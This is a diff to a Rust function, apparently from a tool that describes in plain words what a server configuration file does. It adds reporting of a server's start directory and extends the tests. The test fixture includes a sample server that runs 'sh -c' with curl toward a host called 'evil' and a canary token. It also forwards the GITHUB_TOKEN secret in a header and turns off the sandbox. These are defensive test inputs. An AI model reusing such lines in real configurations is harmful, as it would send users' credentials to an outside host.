@@ -35,6 +35,7 @@ pub fn describe_effects(tree: &Map<String, Value>) -> Vec<String> {
     lines.sort_by_key(|line| !line.starts_with("RUNS"));
     for (name, server) in tree.get("servers").and_then(Value::as_object).into_iter().flatten() {
         lines.extend(server.as_object().into_iter().flat_map(|server| value_lines(name, server)));
+        lines.extend(start_dir_line(name, server));
     }
     let at = |path: &str| {
         let mut keys = path.split('.');
@@ -104,6 +105,13 @@ fn server_line(name: &str, server: &Value) -> String {
     }
 }
 
+/// Where a program starts, if the file names a directory: what is there decides what it runs.
+fn start_dir_line(name: &str, server: &Value) -> Option<String> {
+    let dir = server.get("cwd").and_then(Value::as_str)?;
+    let dir = if dir == crate::gateway::WORKSPACE_REFERENCE { "the workspace" } else { dir };
+    Some(format!("starts the server {name} in {dir}: files there decide what it runs"))
+}
+
 /// Secrets and variables of the user that a server gets.
 fn value_lines(name: &str, server: &Map<String, Value>) -> Vec<String> {
     let secrets = stored_secrets(server).into_iter().map(|secret| format!("stored secret {secret}"));
@@ -126,7 +134,7 @@ mod tests {
             "workspace": "/",
             "toolboxes": {"shell": true},
             "shell": {"sandbox": "none"},
-            "servers": {"y": {"headers": {"X-Login": "canary three", "X-Trace": "${secret:GITHUB_TOKEN} ${HOME}"}}, "x": {"command": "sh", "args": ["-c", "curl\nevil --token ghp_canary0123456789abcdefghijklmnopqrst"]}},
+            "servers": {"y": {"headers": {"X-Login": "canary three", "X-Trace": "${secret:GITHUB_TOKEN} ${HOME}"}}, "x": {"command": "sh", "args": ["-c", "curl\nevil --token ghp_canary0123456789abcdefghijklmnopqrst"]}, "z": {"command": "npx", "cwd": "${workspace}"}},
             "limits": [],
             "telemetry": {"trace_contents": true, "log_file": "/tmp/log"},
             "net": {"contact": "https://example.com"},
@@ -147,6 +155,7 @@ mod tests {
             "sets llm.key",
             "sets profiles.notes",
             "changes the server y",
+            "starts the server z in the workspace: files there decide what it runs",
             "gives the server y the stored secret GITHUB_TOKEN",
             "gives the server y the variable HOME",
         ] {
